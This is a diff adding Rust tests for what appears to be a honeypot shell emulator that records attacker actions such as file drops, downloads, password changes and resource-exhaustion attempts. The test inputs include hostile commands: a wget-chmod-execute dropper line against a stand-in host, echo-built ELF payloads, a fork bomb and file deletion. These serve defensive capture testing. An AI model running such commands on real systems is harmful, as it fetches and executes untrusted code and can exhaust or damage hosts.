@@ -1,0 +1,111 @@
+//! Sessions: events, captures, persistence, terminals, hostile input.
+
+use crate::{NOW, host, shell_on};
+use netsvc_shell::{Origin, ShellEvent, Terminal, Waits};
+use proptest::prelude::*;
+
+#[test]
+fn a_dropped_file_is_captured_once_when_its_pieces_are_in() {
+    let host = host("router");
+    let mut shell = shell_on(&host, "root", true);
+    let mut events = Vec::new();
+    for line in ["echo -ne '\\x7f\\x45' > /tmp/.x", "echo -ne '\\x4c\\x46' >> /tmp/.x", "echo -ne '\\x01' >> /tmp/.x", "chmod 777 /tmp/.x", "ls"] {
+        events.extend(shell.run_line(line).events);
+    }
+    let captured: Vec<Vec<u8>> = events.iter().filter_map(|event| match event {
+        ShellEvent::FileCaptured { path, content, origin: Origin::Drop } if path == "/tmp/.x" => Some(content.to_vec()),
+        _ => None,
+    }).collect();
+    assert_eq!(captured.last().unwrap(), b"\x7fELF\x01");
+    assert!(captured.len() <= 2, "{captured:?}");
+}
+
+#[test]
+fn a_download_is_reported_and_played_back() {
+    let host = host("debian12");
+    let mut shell = shell_on(&host, "root", false);
+    let outcome = shell.exec("cd /tmp; wget http://192.0.2.9/bins/x86_64; chmod +x x86_64; ./x86_64", Some(b""));
+    assert_eq!(outcome.status, 0, "{outcome:?}");
+    assert!(outcome.events.iter().any(|event| matches!(event, ShellEvent::DownloadAttempt { url, .. } if url == "http://192.0.2.9/bins/x86_64")));
+    assert!(outcome.events.iter().any(|event| matches!(event, ShellEvent::FileCaptured { origin: Origin::Download, .. })));
+    assert!(outcome.events.iter().any(|event| matches!(event, ShellEvent::FileExecuted { path, .. } if path == "/tmp/x86_64")));
+}
+
+#[test]
+fn what_a_source_leaves_is_there_when_it_returns() {
+    let host = host("debian12");
+    shell_on(&host, "root", false).exec("echo hello > /tmp/mark; rm /etc/motd", Some(b""));
+    let outcome = shell_on(&host, "root", false).exec("cat /tmp/mark; ls /etc/motd", Some(b""));
+    assert_eq!(outcome.bytes(netsvc_shell::Stream::Out), b"hello\n");
+    assert_eq!(outcome.status, 2);
+}
+
+#[test]
+fn passwd_asks_twice_and_reports() {
+    let host = host("debian12");
+    let mut shell = shell_on(&host, "root", true);
+    assert_eq!(shell.run_line("passwd; echo after").waits, Some(Waits::Secret));
+    assert_eq!(shell.feed_line(Some("new")).waits, Some(Waits::Secret));
+    let outcome = shell.feed_line(Some("new"));
+    assert_eq!(outcome.waits, None);
+    assert_eq!(outcome.bytes(netsvc_shell::Stream::Out), b"after\n");
+    assert!(outcome.events.contains(&ShellEvent::PasswordSet { user: "root".into(), secret: "new".into() }));
+}
+
+#[test]
+fn sleep_delays_what_follows() {
+    let outcome = shell_on(&host("debian12"), "root", false).exec("echo a; sleep 2; echo b", Some(b""));
+    let times: Vec<u128> = outcome.chunks.iter().map(|chunk| chunk.after.as_millis()).collect();
+    assert_eq!(times, [0, 2_000]);
+}
+
+fn typed(input: &[u8]) -> String {
+    let mut terminal = Terminal::new(shell_on(&host("debian12"), "root", true));
+    terminal.start(NOW);
+    terminal.input(input, NOW).bytes.iter().map(|byte| char::from(*byte)).collect()
+}
+
+#[test]
+fn a_terminal_edits_echoes_and_prompts() {
+    for (input, expected) in [
+        (&b"echo hi\r"[..], "echo hi\r\nhi\r\nroot@web01:~# "), (b"xx\x15echo a\r", "a\r\nroot@web01:~# "), (b"cd /tmp\r", "root@web01:/tmp# "),
+        (b"echo ab\x7f\r", "\r\na\r\n"), (b"echo 1\r\x1b[A\r", "1\r\nroot@web01:~# "), (b"if true\rthen echo y\rfi\r", "> "), (b"unam\t\r", "Linux\r\n"),
+        (b"cat\rabc\r\x04", "abc\r\nabc\r\n"), (b"nosuch\r", "-bash: nosuch: command not found\r\n"),
+    ] {
+        let found = typed(input);
+        assert!(found.contains(expected), "{input:?}: {found:?}");
+    }
+}
+
+#[test]
+fn a_fork_bomb_and_endless_loops_end() {
+    for line in [":(){ :|:& };:", "while true; do :; done", "f() { f; }; f", "yes | cat | wc -c", "for ((;;)); do echo x; done", "a=x; while :; do a=$a$a; done", "eval \"$(yes 'eval' | head -1000)\""] {
+        let started = std::time::Instant::now();
+        shell_on(&host("debian12"), "root", false).exec(line, Some(b""));
+        assert!(started.elapsed().as_secs() < 10, "{line}: {:?}", started.elapsed());
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]
+
+    #[test]
+    fn any_bytes_are_a_line(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
+        let line = netsvc_shell::text::decode(&bytes);
+        let outcome = shell_on(&host("debian12"), "root", false).exec(&line, Some(b""));
+        prop_assert!(outcome.chunks.iter().map(|chunk| chunk.bytes.len()).sum::<usize>() <= 1 << 20);
+    }
+
+    #[test]
+    fn any_mix_of_syntax_is_a_line(parts in proptest::collection::vec(proptest::sample::select(vec!["if ", "then ", "fi;", "$(", ")", "`", "\"", "'", "${", "}", "x", "=", "|", "&&", ";", "<<E\n", ">", "/tmp/a ", "for i in ", "do ", "done", "((", "))", "*", "[", "]", "\\", "$", "case x in ", "esac", "{1..9}", "echo ", "cat ", "awk '{print}' ", "sed s/a/b/ ", "grep -E (", "printf %5d "]), 0..40)) {
+        shell_on(&host("debian12"), "root", false).exec(&parts.concat(), Some(b"some\ninput\n"));
+    }
+
+    #[test]
+    fn any_bytes_are_typed(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
+        let mut terminal = Terminal::new(shell_on(&host("router"), "root", true));
+        terminal.start(NOW);
+        terminal.input(&bytes, NOW);
+        terminal.poll(NOW + 1_000_000_000);
+    }
+}
